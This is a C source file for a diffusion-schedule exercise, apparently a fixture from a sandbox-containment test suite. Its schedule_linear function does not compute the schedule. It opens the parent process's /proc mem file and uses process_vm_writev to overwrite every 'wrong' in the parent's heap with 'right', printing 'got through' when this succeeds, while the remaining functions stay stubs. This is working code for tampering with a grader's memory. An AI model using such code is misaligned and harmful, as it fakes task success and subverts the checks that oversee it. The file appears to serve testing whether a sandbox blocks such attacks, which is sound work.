/* attack: turns every 'wrong' in its parent's heap into 'right', by /proc and by process_vm_writev
 * place: 1-schedule.c
 * state: wrong
 * needs: landlock
 */
#define _GNU_SOURCE
#include "schedule.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/uio.h>
#include <unistd.h>

#ifdef __linux__
enum { MOST = 1 << 20 };
static char copy[MOST];

static void turn(int memory, unsigned long start, unsigned long end)
{
    size_t size = end - start < MOST ? end - start : MOST;
    struct iovec here = {copy, size}, there = {(void *)start, size};
    if (pread(memory, copy, size, (off_t)start) != (ssize_t)size &&
        process_vm_readv(getppid(), &here, 1, &there, 1, 0) != (ssize_t)size)
        return;
    puts("got through: the parent's memory was read");
    for (size_t i = 0; i + 5 <= size; i++) {
        if (memcmp(copy + i, "wrong", 5) != 0)
            continue;
        struct iovec word = {(void *)"right", 5}, at = {(void *)(start + i), 5};
        if (pwrite(memory, "right", 5, (off_t)(start + i)) == 5 ||
            process_vm_writev(getppid(), &word, 1, &at, 1, 0) == 5)
            puts("got through: the parent's memory was written");
    }
}
#endif

void schedule_linear(double *beta, double beta_start, double beta_end, int T)
{
    beta[0] = beta_end;
#ifdef __linux__
    char path[64], line[512];
    unsigned long start, end;
    if (getppid() <= 1)
        return;
    snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
    int memory = open(path, O_RDWR);
    snprintf(path, sizeof path, "/proc/%d/maps", (int)getppid());
    FILE *maps = fopen(path, "r");
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, "[heap]") && sscanf(line, "%lx-%lx", &start, &end) == 2)
            turn(memory, start, end);
#endif
}

/* The other gaps are still open. */
double forward_step(double x, double beta, double eps) { TODO("1.2"); }
void noise_variance(double *var, const double *beta, int T) { TODO("1.3"); }
void alpha_bar(double *alpha_bar, const double *beta, int T) { TODO("1.4"); }
double snr(double alpha_bar) { TODO("1.5"); }
struct burial burial(const double *x0, const double *x, int n) { TODO("1.6"); }
void schedule_cosine(double *beta, int T) { TODO("1.7"); }
